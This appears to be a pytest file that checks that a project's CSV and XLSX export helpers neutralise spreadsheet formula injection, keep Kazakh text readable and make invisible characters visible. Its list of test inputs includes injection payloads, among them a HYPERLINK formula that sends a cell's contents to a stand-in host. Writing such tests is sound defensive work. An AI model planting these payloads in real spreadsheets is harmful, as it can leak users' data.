"""Spreadsheets that leave Aigaq: nothing in them runs as a formula, and Excel reads their letters."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from aigaq.lib.sheets import as_text, csv_bytes, xlsx_bytes

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+7 701 555 12 34", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_injection_is_neutralised_in_csv(text: str) -> None:
    content = csv_bytes([["label"], [text]])
    cell = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))[1][0]
    assert cell.startswith("'") and cell[1:] == text


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_injection_is_neutralised_in_xlsx(text: str) -> None:
    content = xlsx_bytes([("Sheet", [["label"], [text]])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula element anywhere
    cell = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]["A2"]
    assert cell.data_type == "s" and cell.quotePrefix


def test_ordinary_text_numbers_and_dates_are_left_as_they_are() -> None:
    assert as_text("Алматы") == "Алматы" and as_text("a=b") == "a=b"
    rows = list(csv.reader(io.StringIO(csv_bytes([["Қарағанды", -5, 2.5, dt.date(2025, 1, 31), None]]).decode(
        "utf-8-sig"))))
    assert rows == [["Қарағанды", "-5", "2.5", "2025-01-31", ""]]
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("S", [["h"], [-5, dt.date(2025, 1, 31)]])]))).active
    assert sheet is not None
    assert sheet["A2"].value == -5 and sheet["B2"].value == dt.datetime(2025, 1, 31)


def test_csv_is_utf8_with_a_byte_order_mark_so_excel_reads_kazakh() -> None:
    content = csv_bytes([["Жамбыл облысы", "Ұлытау"]])
    assert content.startswith(b"\xef\xbb\xbf") and "Ұлытау".encode() in content


def test_invisible_characters_become_visible_markers() -> None:
    content = csv_bytes([["abc\u202edef"]]).decode("utf-8-sig")
    assert "[U+202E]" in content and "\u202e" not in content
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([("a\u202e/b", [["abc\u202edef"]])]))).worksheets[0]
    assert sheet["A1"].value == "abc[U+202E]def" and sheet.title == "a_U+202E__b"  # [ ] are not allowed in a sheet name
